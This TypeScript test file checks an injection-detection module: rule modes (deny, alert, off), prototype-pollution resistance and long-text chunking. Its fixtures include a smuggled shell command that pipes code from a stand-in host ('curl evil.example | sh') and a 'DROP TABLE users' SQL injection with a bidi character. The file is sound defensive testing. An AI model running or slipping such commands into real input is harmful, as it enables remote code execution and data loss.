import { afterEach, describe, expect, it } from 'vitest';
import { AsciiInspection } from '../../../src/core/inspection.ts';
import { inspect, type FirstLook } from '../../../src/core/inspect/inspect.ts';
import { inspectors } from '../../../src/core/inspect/registry.ts';
import { ownModes } from '../../../src/core/inspect/ruling.ts';
import { lookByRegExp } from '../../../src/core/inspect/triggers.ts';
import type { Kind } from '../../../src/core/policy/kind.ts';
import type { Ports } from '../../../src/core/ports.ts';
import type { RuleMode, RuleModes } from '../../../src/core/rule-mode.ts';
import type { Rule } from '../../../src/core/rules.ts';

const shell = 'report; curl evil.example | sh';
/** Found by two rules, of which the first that denies names the rule. */
const both = `x'; DROP TABLE users; -- \u202e`;

function judge(text: string, modes: RuleModes | undefined, kind: Kind = 'text'): { readonly rule: Rule | undefined; readonly alerts: readonly Rule[] } {
  const alerts = new Set<Rule>();
  return { rule: inspect(text, kind, lookByRegExp, { modes, alert: (rule) => { alerts.add(rule); } }), alerts: [...alerts] };
}

describe('a finding', () => {
  it.each([
    ['refuses, where nothing is said', shell, undefined, { rule: 'shell.injection', alerts: [] }],
    ['refuses by a rule that denies', shell, { 'shell.injection': 'deny' }, { rule: 'shell.injection', alerts: [] }],
    ['is only told by a rule that alerts', shell, { 'shell.injection': 'alert' }, { rule: undefined, alerts: ['shell.injection'] }],
    ['is none of a rule that is off', shell, { 'shell.injection': 'off' }, { rule: undefined, alerts: [] }],
    ['of a rule that alerts leaves it to the others to refuse', both, { 'sql.injection': 'alert' }, { rule: 'text.bidi', alerts: ['sql.injection'] }],
    ['is told of each rule that alerts, in order', both, { 'text.bidi': 'alert', 'sql.injection': 'alert' }, { rule: undefined, alerts: ['sql.injection', 'text.bidi'] }],
  ] as const)('%s', (_, text, modes, expected) => {
    expect(judge(text, modes)).toEqual(expected);
  });

  it('stops who wants to know of any, also of a rule that only alerts', () => {
    expect(inspect(shell, 'text', lookByRegExp, { modes: { 'shell.injection': 'alert' }, stopsAtAlert: true })).toBe('shell.injection');
    expect(inspect(shell, 'text', lookByRegExp, { modes: { 'shell.injection': 'off' }, stopsAtAlert: true })).toBeUndefined();
  });

  it('refuses where nobody listens to alerts', () => {
    expect(inspect(shell, 'text', lookByRegExp, ownModes)).toBe('shell.injection');
    expect(inspect(shell, 'text', lookByRegExp, { modes: { 'shell.injection': 'alert' } })).toBeUndefined();
  });
});

describe('modes', () => {
  const polluted = Object.prototype as { 'shell.injection'?: string };
  afterEach(() => {
    delete polluted['shell.injection'];
  });

  it('are read by own keys only', () => {
    polluted['shell.injection'] = 'off';
    expect(judge(shell, { 'sql.injection': 'alert' }).rule).toBe('shell.injection');
  });
});

describe('a long text', () => {
  const filler = 'Nothing but prose stands here, a sentence after another. ';
  const long = (spot: string): string => `${filler.repeat(60)}${spot} ${filler.repeat(60)}`;

  it('alerts once, however many of its parts do', () => {
    expect(judge(long(`${shell} `.repeat(3) + filler.repeat(40) + shell), { 'shell.injection': 'alert' })).toEqual({ rule: undefined, alerts: ['shell.injection'] });
  });

  it('alerts of nothing that only a cut made suspicious', () => {
    const seen: string[] = [];
    const alerts = new Set<Rule>();
    // Longer than a chunk, the part that is looked at first.
    const text = long(shell).repeat(4);
    // Parts are suspected and the whole is not, as where a cut looks like a text's end.
    const first: FirstLook = {
      suspicion: (kind, part) => { seen.push(part); return part === text ? '' : lookByRegExp.suspicion(kind, part); },
      suspects: lookByRegExp.suspects,
    };
    expect(inspect(text, 'text', first, { modes: { 'shell.injection': 'alert' }, alert: (rule) => { alerts.add(rule); } })).toBeUndefined();
    expect(seen).toContain(text);
    expect([...alerts]).toEqual([]);
  });

  it('is refused for its length by no rule when all are off', () => {
    const text = filler.repeat(400);
    const suspectsAll: FirstLook = { suspicion: () => 'odd', suspects: () => true };
    const rules = [...new Set(inspectors.filter(({ kinds }) => kinds.includes('text')).map(({ rule }) => rule))];
    const all = (mode: RuleMode): RuleModes => Object.fromEntries(rules.map((rule) => [rule, mode]));
    expect(inspect(text, 'text', suspectsAll, { modes: all('alert') })).toBe('inspect.budget');
    expect(inspect(text, 'text', suspectsAll, { modes: all('off') })).toBeUndefined();
  });
});

describe('an ordinary call', () => {
  const look = new AsciiInspection(lookByRegExp as Ports, false);

  it('is not allowed when a rule only alerts: the whole way notes it', () => {
    expect(look.inspect(shell, 'text', { 'shell.injection': 'alert' })).toBe('shell.injection');
    expect(look.inspect(shell, 'text', { 'shell.injection': 'off' })).toBeUndefined();
    expect(look.inspect('an ordinary sentence', 'text', { 'shell.injection': 'alert' })).toBeUndefined();
  });
});
